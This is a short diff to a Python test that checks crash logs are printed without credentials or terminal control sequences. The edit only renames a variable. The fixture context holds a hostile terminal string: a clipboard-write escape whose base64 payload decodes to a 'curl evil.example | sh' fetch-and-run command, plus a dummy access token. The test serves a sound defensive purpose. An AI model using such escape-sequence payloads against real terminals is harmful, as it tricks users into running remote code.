@@ -81,6 +81,6 @@ def test_a_dead_chapters_log_is_printed_without_credentials_or_control_sequences
         "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\x1b]0;owned\x07dckr_pat_2b3e36beeb386dfdaacb9b46004ccb7c"
     )
     monkeypatch.setattr(ipc_kernel, "last_kernel_log", lambda: hostile)
-    error, log = build.kernel_death(RuntimeError("kernel died"), set())
+    _error, log = build.kernel_death(RuntimeError("kernel died"), set())
     assert "hunter2hunter2" not in log and "2b3e36beeb386dfdaacb9b46004ccb7c" not in log
     assert "\x1b" not in log and "\x07" not in log and "Traceback" in log
